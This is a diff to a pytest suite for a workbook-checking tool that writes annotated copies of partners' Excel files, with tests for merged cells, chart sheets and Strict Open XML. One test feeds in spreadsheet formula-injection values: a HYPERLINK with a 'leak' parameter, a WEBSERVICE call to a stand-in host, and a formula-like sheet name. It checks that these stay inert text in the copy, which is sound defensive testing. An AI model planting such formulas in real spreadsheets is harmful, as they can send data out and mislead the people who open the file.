@@ -8,12 +8,15 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
+from openpyxl.chart import BarChart, Reference
 from openpyxl.styles import Font
 
+from competency_maps import messages
 from competency_maps.xlsx.annotate import AUTHOR
 from competency_maps.cli import main
 from competency_maps.console import Console
-from conftest import INPUTS, typed
+from competency_maps.inputs.reader import read_workbook
+from conftest import INPUTS, parts, typed, write_parts
 
 # A workbook as a hurried partner returns it: each cell typed here is a problem of its own.
 PROBLEMS = {
@@ -94,13 +97,14 @@ def test_annotating_again_replaces_the_earlier_marks(tmp_path, returned):
     assert again.sheetnames.count("Check") == 1
     assert all(c.comment is None for ws in again.worksheets for row in ws.iter_rows() for c in row)
     assert again["SWOT"]["B2"].fill.fill_type is None  # the highlight of the fixed cell is gone
-    assert again["Check"]["A1"].value.startswith("Moveo.xlsx: 0 error(s) to correct, 0 warning(s)")
+    assert again["Check"]["A1"].value == messages.render("annotate.summary", {"file": "Moveo.xlsx", "errors": 0,
+                                                                               "warnings": 0}).message
 
 
 def test_the_copy_never_replaces_the_original(tmp_path, returned):
     before = returned.read_bytes()
     code, out = check(returned, "--annotate", returned.parent)
-    assert "No annotated copy: ERROR" in out and "another folder" in out
+    assert "No annotated copy: ERROR" in out and messages.render("annotate.same_file", {}).hint in out
     assert returned.read_bytes() == before
 
 
@@ -108,7 +112,7 @@ def test_a_file_that_is_no_workbook_gets_no_copy(tmp_path):
     bad = tmp_path / "notes.xlsx"
     bad.write_text("not a workbook", encoding="utf-8")
     code, out = check(bad, "--annotate", tmp_path / "annotated")
-    assert code == 1 and "No annotated copy: ERROR notes.xlsx: is not an Excel workbook" in out
+    assert code == 1 and f"No annotated copy: ERROR notes.xlsx: {messages.render('workbook.not_zip', {}).message}" in out
     assert "Traceback" not in out and not (tmp_path / "annotated" / "notes.xlsx").exists()
 
 
@@ -133,3 +137,106 @@ def test_dropdowns_the_copy_would_lose_are_put_back(tmp_path, make_workbook, sch
     from competency_maps.xlsx.blank import list_refs
     [topics] = [dv for dv in ws.data_validations.dataValidation if dv.type == "list" and "A2" in dv.sqref]
     assert topics.formula1 == list_refs(schema)["Topics"]
+
+
+def test_text_typed_as_a_formula_stays_text_in_the_copy(tmp_path, make_workbook):
+    """A partner's "=…" typed as text, and the Check sheet quoting it, are string cells in the copy."""
+    hyperlink = '=HYPERLINK("http://example.org/?leak=1","click")'
+
+    def edit(wb):
+        for ref, value in (("SWOT!D3", hyperlink), ("SWOT!B2", '=WEBSERVICE("http://example.org")'),
+                           ("TOWS!D2", "#N/A")):
+            sheet, cell = ref.split("!")
+            wb[sheet][cell] = value
+            wb[sheet][cell].data_type = "s"
+        wb.create_sheet("=1+1")["A1"] = "a sheet whose name looks like a formula"
+
+    path = make_workbook(tmp_path, edit=edit, name="Moveo.xlsx")
+    code, out = check(path, "--annotate", tmp_path / "annotated")
+    copy = tmp_path / "annotated" / "Moveo.xlsx"
+    assert code == 1 and copy.exists(), out
+    wb = load_workbook(copy)
+    assert wb["SWOT"]["D3"].value == hyperlink and wb["SWOT"]["D3"].data_type == "s"
+    assert wb["SWOT"]["B2"].data_type == "s" and wb["TOWS"]["D2"].data_type == "s"
+    check_cells = [c for row in wb["Check"].iter_rows() for c in row if isinstance(c.value, str)]
+    assert check_cells and {c.data_type for c in check_cells} == {"s"}
+    assert any(c.value.startswith("=1+1") for c in check_cells)  # the place of the odd sheet's issue
+
+
+def _chart_sheet(wb, title: str) -> None:
+    """`title` becomes a chart sheet at the same place (a partner who moved a chart onto its own sheet)."""
+    data = wb.create_sheet("data")
+    data.append([1])
+    index = wb.sheetnames.index(title)
+    wb.remove(wb[title])
+    bars = BarChart()
+    bars.add_data(Reference(data, min_col=1, min_row=1, max_row=1))
+    wb.create_chartsheet(title, index).add_chart(bars)
+
+
+def test_merged_entry_cells_are_marked_on_their_first_cell(tmp_path, make_workbook):
+    def edit(wb):
+        ws = wb["SWOT"]
+        ws["B3"] = "Strenght"
+        ws.merge_cells("B2:B3")  # an issue at B3, a read-only merged cell
+        ws.merge_cells("D4:D5")
+
+    path = make_workbook(tmp_path, edit=edit, name="Merged.xlsx")
+    code, out = check(path, "--annotate", tmp_path / "annotated")
+    assert code == 1 and "internal error" not in out and "SWOT › B2:B3" in out, out
+    wb = load_workbook(tmp_path / "annotated" / "Merged.xlsx")
+    assert wb["SWOT"]["B2"].comment is not None and "D3" in wb["SWOT"]["B2"].comment.text
+    assert wb["SWOT"]["D4"].comment is not None
+
+
+@pytest.mark.parametrize("title", ["SWOT", "Lists", "Cluster"])
+def test_a_chart_sheet_where_a_sheet_of_cells_belongs_is_a_located_error(tmp_path, make_workbook, schema, title):
+    def edit(wb):
+        _chart_sheet(wb, title)
+        if title != "SWOT":
+            wb["SWOT"]["B2"] = "Strenght"
+
+    path = make_workbook(tmp_path, edit=edit, name="Chart.xlsx")
+    code, out = check(path, "--annotate", tmp_path / "annotated")
+    copy = tmp_path / "annotated" / "Chart.xlsx"
+    assert code == 1 and "internal error" not in out and copy.exists(), out
+    assert title in load_workbook(copy).sheetnames  # the partner's chart sheet is kept
+    res = read_workbook(path, schema)
+    if title != "Lists":
+        assert [(i.code, i.location.sheet) for i in res.errors if i.code == "sheet.chart"] == [("sheet.chart", title)]
+
+
+def _strict(source: Path, target: Path) -> Path:
+    """The same workbook in Strict Open XML's namespaces, as Excel's "Strict Open XML Spreadsheet" saves it."""
+    members = {name: data.replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
+                                  b"http://purl.oclc.org/ooxml/spreadsheetml/main")
+               .replace(b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
+                        b"http://purl.oclc.org/ooxml/officeDocument/relationships")
+               for name, data in parts(source).items()}
+    return write_parts(target, members)
+
+
+def test_a_strict_open_xml_workbook_is_named_and_gets_no_copy(tmp_path, make_workbook, schema):
+    strict = _strict(make_workbook(tmp_path, name="plain.xlsx"), tmp_path / "Strict.xlsx")
+    code, out = check(strict, "--annotate", tmp_path / "annotated")
+    assert code == 1 and "Strict Open XML" in out and "internal error" not in out, out
+    assert not (tmp_path / "annotated" / "Strict.xlsx").exists()
+    res = read_workbook(strict, schema)
+    assert [i.code for i in res.errors] == ["workbook.strict"]
+
+
+def test_a_workbook_of_chart_sheets_only_gets_no_copy(tmp_path):
+    """A copy holding only the Check sheet would lose everything of the partner's: none is written."""
+    from openpyxl import Workbook
+    wb = Workbook()
+    data = wb.active
+    data.append([1])
+    bars = BarChart()
+    bars.add_data(Reference(data, min_col=1, min_row=1, max_row=1))
+    wb.create_chartsheet("Chart").add_chart(bars)
+    wb.remove(data)
+    path = tmp_path / "Charts.xlsx"
+    wb.save(path)
+    code, out = check(path, "--annotate", tmp_path / "annotated")
+    assert code == 1 and "internal error" not in out
+    assert not (tmp_path / "annotated" / "Charts.xlsx").exists()
